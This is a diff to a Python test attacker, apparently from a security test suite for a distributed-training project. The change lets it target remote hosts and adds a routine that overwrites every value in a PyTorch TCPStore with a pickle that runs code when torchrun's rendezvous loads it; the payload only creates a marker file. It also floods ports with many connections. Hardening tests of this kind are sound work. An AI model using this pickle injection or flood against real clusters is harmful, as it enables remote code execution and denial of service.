@@ -2,9 +2,11 @@
 becomes that user before it does anything. It imports only Python's own library, because that user may not be able to
 read the packages of the tests.
 
-Its input has a line of JSON for each thing to attack: `{"port": 1234}`, `{"pid": 12}` or `{"folder": "/runs"}`. It
-attacks everything again and again until its input ends, and prints what it has reached as JSON."""
+Its input has a line of JSON for each thing to attack: `{"port": 1234}`, `{"pid": 12}` or `{"folder": "/runs"}`. A port
+may have "messages": only these of `MESSAGES` are sent there, "host", its address, and "is_flooded". It attacks all of
+them again and again until its input ends, and prints what it has reached as JSON."""
 
+import base64
 import encodings.idna  # noqa: F401  # needed to connect, and not readable for that user later
 import json
 import os
@@ -22,7 +24,7 @@ USER = 65534
 _ANSWER_S = 0.05
 _PAUSE_S = 0.05  # a flood that takes all cores would only show that
 _FLOOD = 40  # connections at once
-_VALIDATE, _SET, _PING, _DELETE, _LIST = 0, 1, 13, 8, 17  # operations of torch's store
+_VALIDATE, _SET, _PING, _LIST = 0, 1, 13, 17  # operations of torch's store
 _MAGIC = 0x3C85F7CE
 _KEYS = ("/attempt0/control", "/failure of rank 0 in attempt 0", "/result of attempt 0", "/control", "/port")
 
@@ -34,11 +36,24 @@ class _Executed:
         return open, ("/tmp/meshwright-stranger-was-here", "w")
 
 
+def _set(key: bytes, value: bytes) -> bytes:
+    return struct.pack("<BQ", _SET, len(key)) + key + struct.pack("<Q", len(value)) + value
+
+
 def _store_words() -> bytes:
-    words = struct.pack("<BI", _VALIDATE, _MAGIC)
-    for key in _KEYS:
-        words += struct.pack("<BQ", _SET, len(key)) + key.encode() + struct.pack("<Q", 2) + b"{}"
-    return words + struct.pack("<BI", _PING, 7)
+    written = b"".join(_set(key.encode(), b"{}") for key in _KEYS)
+    return struct.pack("<BI", _VALIDATE, _MAGIC) + written + struct.pack("<BI", _PING, 7)
+
+
+def _overwrite(store: socket.socket) -> None:
+    """Writes the pickle into every value of a store that answers, in the form that torchrun's rendezvous reads."""
+    value = base64.b64encode(pickle.dumps(_Executed()))
+    with store.makefile("rb") as answers:
+        store.sendall(struct.pack("<B", _LIST))
+        (count,) = struct.unpack("<q", answers.read(8))
+        keys = [answers.read(*struct.unpack("<Q", answers.read(8))) for _ in range(count)]
+        store.sendall(b"".join(_set(key, value) for key in keys) + struct.pack("<BI", _PING, 7))
+        answers.read(4)  # a store without DNS takes seconds to report a connection that ends without it
 
 
 def _frame(value: Any) -> bytes:
@@ -76,29 +91,32 @@ class Stranger:
 
     def _attack(self, target: dict[str, Any]) -> None:
         if "port" in target:
-            for name in MESSAGES:
-                self._say(target["port"], name)
-            self._flood(target["port"])
+            for name in target.get("messages", MESSAGES):
+                self._say((target.get("host", "127.0.0.1"), target["port"]), name)
+            if target.get("is_flooded", True):
+                self._flood((target.get("host", "127.0.0.1"), target["port"]))
         elif "pid" in target:
             self._look_into(Path("/proc", str(target["pid"])))
         else:
             for file in Path(target["folder"]).rglob("*"):
                 self._change(file)
 
-    def _say(self, port: int, name: str) -> None:
+    def _say(self, address: tuple[str, int], name: str) -> None:
         self.tries[name] += 1
-        with suppress(OSError), socket.create_connection(("127.0.0.1", port), 1.0) as connection:
+        with suppress(OSError), socket.create_connection(address, 1.0) as connection:
             connection.settimeout(_ANSWER_S)
             connection.sendall(MESSAGES[name])
             if connection.recv(100):
-                self.reached[f"port {port}, {name}"] += 1
+                self.reached[f"port {address[1]}, {name}"] += 1
+                if name == "store":
+                    _overwrite(connection)
 
-    def _flood(self, port: int) -> None:
+    def _flood(self, address: tuple[str, int]) -> None:
         connections = []
         for _ in range(_FLOOD):
             self.tries["flood"] += 1
             with suppress(OSError):
-                connections.append(socket.create_connection(("127.0.0.1", port), 0.2))
+                connections.append(socket.create_connection(address, 0.2))
         for connection in connections:
             connection.close()
 
